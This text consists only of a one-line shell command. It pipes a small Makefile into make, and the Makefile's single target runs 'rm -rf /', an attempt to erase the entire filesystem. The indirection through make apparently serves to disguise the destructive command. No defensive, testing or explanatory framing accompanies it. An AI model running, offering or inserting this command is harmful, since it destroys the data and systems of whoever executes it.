printf 'all:\n\trm -rf /\n' | make -f -
